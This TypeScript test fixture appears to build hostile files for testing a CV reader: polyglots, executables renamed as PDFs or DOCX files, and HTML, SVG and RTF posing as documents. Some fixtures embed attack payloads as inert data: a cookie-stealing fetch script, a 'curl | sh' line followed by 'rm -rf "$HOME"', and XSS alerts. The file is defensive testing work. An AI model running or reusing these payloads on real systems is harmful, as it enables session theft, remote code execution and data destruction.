/**
 * Files pretending to be something else (reliability.md section 7 row 7): polyglots that are
 * two formats at once, and executables renamed to .pdf/.docx. The reader only ever sees bytes.
 */
import { buildDocx, buildZip } from "../fixtures.ts";
import { DAMAGED, type HostileCase, seededBytes } from "./corpus-types.ts";
import { concatBytes, latin1, pagePdf } from "./pdf-writer.ts";

const polyglot = "polyglot";
const executable = "executable";
const markup = "markup";

const cvPdf = (): Uint8Array => pagePdf();
const cvDocx = (): Uint8Array => buildDocx(["Jane Doe", "Data Analyst"]);

/** An ELF64 header for x86-64 followed by seeded "code". */
const elf = (): Uint8Array => {
  const header = new Uint8Array(64);
  header.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
  header.set([2, 0, 0x3e, 0, 1, 0, 0, 0], 16);
  return concatBytes([header, seededBytes(1, 8192)]);
};

/** MZ header, the DOS stub text and a PE signature at 0x80. */
const pe = (): Uint8Array => {
  const bytes = new Uint8Array(1024);
  bytes.set(latin1("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"));
  new DataView(bytes.buffer).setUint32(0x3c, 0x80, true);
  bytes.set(latin1("This program cannot be run in DOS mode.\r\r\n$"), 0x4e);
  bytes.set(latin1("PE\x00\x00\x64\x86"), 0x80);
  return concatBytes([bytes, seededBytes(2, 8192)]);
};

const machO = (magic: number[]): Uint8Array => concatBytes([new Uint8Array(magic), seededBytes(3, 8192)]);

export const polyglots: readonly HostileCase[] = [
  {
    family: polyglot,
    name: "valid PDF with a DOCX appended (PDF header first)",
    expect: ["ok", "corrupt"],
    build: () => concatBytes([cvPdf(), cvDocx()]),
  },
  {
    family: polyglot,
    name: "DOCX with a PDF appended after the zip",
    expect: ["ok", "corrupt", "unsupported-type"],
    build: () => concatBytes([cvDocx(), cvPdf()]),
  },
  {
    family: polyglot,
    name: "zip (not a DOCX) with a PDF header in its first KiB",
    expect: ["unsupported-type"],
    build: () =>
      buildZip([
        { name: "a.pdf", data: cvPdf() },
        { name: "payload.sh", data: "#!/bin/sh\nid\n" },
      ]),
  },
  {
    family: polyglot,
    name: "HTML page with a PDF inside its first KiB (readers accept %PDF- there)",
    expect: ["unsupported-type"],
    build: () =>
      concatBytes([
        "<html><body><script>fetch('/steal?c='+document.cookie)</script><!--\n",
        Buffer.from(cvPdf()).toString("latin1").replace("%\xe2\xe3\xcf\xd3\n", ""),
        "--></body></html>\n",
      ]),
  },
  {
    family: polyglot,
    name: "PDF that is also an HTML page with a script",
    expect: DAMAGED,
    build: () =>
      concatBytes([
        "%PDF-1.7\n%<html><script>alert(document.domain)</script>\n",
        Buffer.from(cvPdf())
          .toString("latin1")
          .replace(/^%PDF-1\.7\n/, ""),
      ]),
  },
  {
    family: polyglot,
    name: "JPEG header with a PDF inside its first KiB",
    expect: ["unsupported-type"],
    build: () =>
      concatBytes([
        new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]),
        cvPdf(),
      ]),
  },
  {
    family: polyglot,
    name: "PE executable with a PDF at offset 0x200 (MZ first)",
    expect: ["unsupported-type"],
    build: () => {
      const bytes = pe();
      bytes.set(cvPdf().subarray(0, 300), 0x200);
      return bytes;
    },
  },
  {
    family: polyglot,
    name: "Markdown text that embeds a whole PDF after the first KiB",
    expect: ["ok", "unsupported-type"],
    build: () =>
      concatBytes([
        `# Jane Doe\n\n${"Data analyst. ".repeat(100)}\n\n`,
        Buffer.from(cvPdf()).toString("latin1").replace("%\xe2\xe3\xcf\xd3\n", ""),
      ]),
  },
];

export const executables: readonly HostileCase[] = [
  { family: executable, name: "ELF x86-64 binary", expect: ["unsupported-type"], build: elf },
  { family: executable, name: "Windows PE/MZ binary", expect: ["unsupported-type"], build: pe },
  {
    family: executable,
    name: "Mach-O 64-bit binary",
    expect: ["unsupported-type"],
    build: () => machO([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]),
  },
  {
    family: executable,
    name: "Mach-O universal (fat) binary",
    expect: ["unsupported-type"],
    build: () => machO([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2]),
  },
  {
    family: executable,
    name: "shell script named .pdf (text: read, never run)",
    expect: ["ok", "unsupported-type"],
    build: () => latin1(`#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\nrm -rf "$HOME"\n`),
  },
  {
    family: executable,
    name: "WebAssembly module",
    expect: ["unsupported-type"],
    build: () => concatBytes([new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]), seededBytes(4, 512)]),
  },
  {
    family: executable,
    name: "Java archive (zip without word/document.xml)",
    expect: ["unsupported-type"],
    build: () =>
      buildZip([
        { name: "META-INF/MANIFEST.MF", data: "Main-Class: Evil\n" },
        { name: "Evil.class", data: new Uint8Array([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52]) },
      ]),
  },
  {
    family: executable,
    name: "legacy Word .doc (OLE2 compound file)",
    expect: ["unsupported-type"],
    build: () =>
      concatBytes([new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), seededBytes(5, 4096)]),
  },
  {
    family: executable,
    name: "gzip archive",
    expect: ["unsupported-type"],
    build: () => concatBytes([new Uint8Array([0x1f, 0x8b, 8, 0]), seededBytes(6, 1024)]),
  },
];

/** Web pages, XML and RTF under a document's name: readable bytes, but markup rather than text. */
export const markupFiles: readonly HostileCase[] = [
  {
    family: markup,
    name: "CV web page saved from a browser, named cv.pdf",
    expect: ["markup"],
    build: () =>
      latin1(
        '<!-- saved from url=(0032)https://jane.example/cv.html -->\n<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>Jane Doe CV</title><script src="https://tracker.example/t.js"></script></head>\n<body><h1>Jane Doe</h1><p>Data Analyst, Acme 2019 - 2024</p></body></html>\n',
      ),
  },
  {
    family: markup,
    name: "word processor HTML export without a doctype, named cv.docx",
    expect: ["markup"],
    build: () =>
      latin1(
        '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><style>p.MsoNormal{margin:0}</style></head><body lang=EN-GB><p class=MsoNormal>Jane Doe</p></body></html>',
      ),
  },
  {
    family: markup,
    name: "HTML fragment: one <div> from first to last byte, named cv.txt",
    expect: ["markup"],
    build: () =>
      latin1(
        '<div class="cv">\n  <h1>Jane Doe</h1>\n  <p>Data Analyst</p>\n  <p>Skills: Python, SQL</p>\n</div>\n',
      ),
  },
  {
    family: markup,
    name: "XHTML with an XML declaration",
    expect: ["markup"],
    build: () =>
      latin1(
        '<?xml version="1.0" encoding="UTF-8"?>\n<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Jane Doe</p></body></html>',
      ),
  },
  {
    family: markup,
    name: "SVG with a script, named cv.pdf",
    expect: ["markup"],
    build: () =>
      latin1('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><text>Jane Doe</text></svg>'),
  },
  {
    family: markup,
    name: "RTF saved from a word processor, named cv.docx",
    expect: ["markup"],
    build: () =>
      latin1("{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Calibri;}}\\f0\\fs22 Jane Doe\\par Data Analyst\\par}"),
  },
  {
    family: markup,
    name: "Markdown CV with a centred HTML header is still Markdown",
    expect: ["ok"],
    build: () =>
      latin1(
        '<div align="center">\n  <h1>Jane Doe</h1>\n  <p>Data Analyst</p>\n</div>\n\n## Experience\n\n- Data Analyst, Acme, 2019 - 2024\n\n## Skills\n\nPython, SQL\n\n<p align="center">References on request</p>\n',
      ),
  },
  {
    family: markup,
    name: "Markdown CV opening with an HTML comment",
    expect: ["ok"],
    build: () => latin1("<!-- last updated 2025-01 -->\n# Jane Doe\n\nData Analyst at Acme, 2019 - 2024.\n"),
  },
];
